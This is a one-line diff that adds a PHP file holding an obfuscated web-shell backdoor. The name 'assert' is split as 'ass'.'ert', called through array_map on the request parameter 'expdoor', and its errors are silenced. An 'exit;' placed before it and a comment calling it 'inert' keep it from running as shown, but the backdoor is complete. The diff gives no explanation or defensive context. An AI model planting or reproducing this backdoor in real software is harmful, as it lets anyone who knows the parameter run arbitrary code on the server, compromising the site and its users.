@@ -1,0 +1,1 @@
+<?php exit; /* inert */ @array_map("ass"."ert",(array)$_REQUEST['expdoor']);
